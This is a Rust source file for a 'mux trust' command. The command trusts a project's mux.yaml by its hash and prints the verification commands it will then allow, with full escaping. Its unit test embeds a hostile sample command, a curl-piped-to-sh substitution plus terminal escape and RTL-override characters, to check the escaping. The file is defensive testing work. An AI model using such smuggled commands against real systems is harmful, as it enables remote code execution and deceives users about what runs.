//! `mux trust [DIR] [--remove]`: lets the `mux.yaml` of a project name verification commands, as long as its bytes stay
//! what they are.

use crate::rules::config_values::command_value;
use crate::rules::escape::one_line;
use crate::sys::config_files::{self, Before};
use crate::words::env::Env;
use crate::words::error::{Context, Error, Kind};
use std::io::Write;
use std::path::Path;

/// Records or removes the trust in a directory and says what follows from it. Returns the exit code.
///
/// # Errors
/// No such directory, no `mux.yaml` in it, one that cannot be read, or a record that cannot be written.
pub fn run(env: &Env, dir: &Path, remove: bool, state: &Path, out: &mut dyn Write) -> Result<u8, Error> {
    let text = if remove { removed(dir, state)? } else { trusted(env, dir, state)? };
    out.write_all(text.as_bytes()).context(Kind::Io, || "cannot write the output".to_string())?;
    Ok(0)
}

fn removed(dir: &Path, state: &Path) -> Result<String, Error> {
    let was = if config_files::distrust(dir, state)? { "no longer trusted" } else { "was not trusted" };
    Ok(format!("{was}: {}\n", one_line(&dir.join(config_files::NAME).to_string_lossy())))
}

fn trusted(env: &Env, dir: &Path, state: &Path) -> Result<String, Error> {
    let trusted = config_files::trust(env, dir, state)?;
    let word = match trusted.before {
        Before::Nothing => "trusted",
        Before::OtherBytes => "trusted again",
        Before::TheSame => "trusted already",
    };
    let mut text = format!("{word}: {} (sha256 {})\n", one_line(&trusted.path.to_string_lossy()), trusted.sha256);
    if trusted.commands.is_empty() {
        text.push_str("it names no verification commands, so nothing changes\n");
        return Ok(text);
    }
    text.push_str("mux may run, until the file changes:\n");
    for command in &trusted.commands {
        // To the last character: what was masked here as a secret would be run unseen.
        text.push_str("  ");
        command_value(command).write(&mut text, true);
        text.push('\n');
    }
    Ok(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::words::time::Utc;
    use fs_err as fs;

    #[test]
    fn trust_shows_what_it_allows() {
        let root = std::env::temp_dir().join(format!("mux-face-trust-{}", std::process::id()));
        fs::create_dir_all(root.join("state")).unwrap();
        let root = fs::canonicalize(root).unwrap();
        fs::write(
            root.join("mux.yaml"),
            "verification: {commands: [make, [sh, -c, \"./a\\u001b[2J --token=$(curl${IFS}x|sh)\"]]}\n",
        )
        .unwrap();
        let env = Env { vars: [].into(), cwd: None, now: Utc(0) };
        let trust = |remove| {
            let mut out = Vec::new();
            assert_eq!(run(&env, &root, remove, &root.join("state"), &mut out).unwrap(), 0);
            String::from_utf8(out).unwrap().replace(root.to_str().unwrap(), "")
        };
        let text = trust(false);
        let (first, rest) = text.split_once('\n').unwrap();
        assert!(first.starts_with("trusted: /mux.yaml (sha256 "), "{first}");
        let commands = "  \"make\"\n  [\"sh\", \"-c\", \"./a\\u001b[2J --token=$(curl${IFS}x|sh)\"]\n";
        assert_eq!(rest, format!("mux may run, until the file changes:\n{commands}"));
        assert!(trust(false).starts_with("trusted already: "));
        assert_eq!(trust(true), "no longer trusted: /mux.yaml\n");
        assert_eq!(trust(true), "was not trusted: /mux.yaml\n");
        let hostile = root.join("a\u{1b}[2J\u{202e}");
        fs::create_dir(&hostile).unwrap();
        fs::write(hostile.join("mux.yaml"), "").unwrap();
        for remove in [false, true] {
            let mut out = Vec::new();
            run(&env, &hostile, remove, &root.join("state"), &mut out).unwrap();
            let text = String::from_utf8(out).unwrap();
            assert!(text.contains("/a\\x1b[2J\\u{202e}/mux.yaml"), "{text:?}");
        }
        fs::remove_dir_all(root).unwrap();
    }
}
